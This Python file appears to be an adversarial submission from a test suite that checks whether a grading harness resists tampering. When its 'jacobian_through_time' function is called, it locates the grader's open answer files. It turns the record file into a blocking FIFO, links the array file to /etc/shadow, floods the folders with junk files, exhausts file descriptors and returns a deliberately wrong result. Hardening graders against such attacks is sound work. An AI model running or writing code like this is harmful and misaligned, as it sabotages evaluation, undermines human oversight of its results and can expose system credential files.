"""Attack: jacobian_through_time turns the files the grader will read into traps: the step's record
file becomes a FIFO (a grader that opens it blocks forever), its array file a symlink to
/etc/shadow; it also fills its folders with files and tries to exhaust file descriptors."""
import os

import attack_kit as kit
import ref_jacobian
from ref_jacobian import *  # noqa: F401,F403


def _open_answer_files():
    found = []
    for fd in range(3, 256):
        try:
            path = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if path.endswith((".jsonl", ".f64")):
            found.append(path)
    return found


def _traps():
    for path in _open_answer_files():
        try:
            os.unlink(path)
            if path.endswith(".jsonl"):
                os.mkfifo(path)
            else:
                os.symlink("/etc/shadow", path)
        except OSError:
            pass
        folder = os.path.dirname(path)
        for i in range(300):
            try:
                with open(os.path.join(folder, f"junk-{kit.TOKEN}-{i}"), "wb") as f:
                    f.write(b"x" * 4096)
            except OSError:
                break
    held = []
    try:
        while len(held) < 100000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    for fd in held:
        os.close(fd)


def jacobian_through_time(hs, W_hh, k, t, activation="tanh"):
    kit.once("traps", _traps)
    return kit.wrong(ref_jacobian.jacobian_through_time(hs, W_hh, k, t, activation))
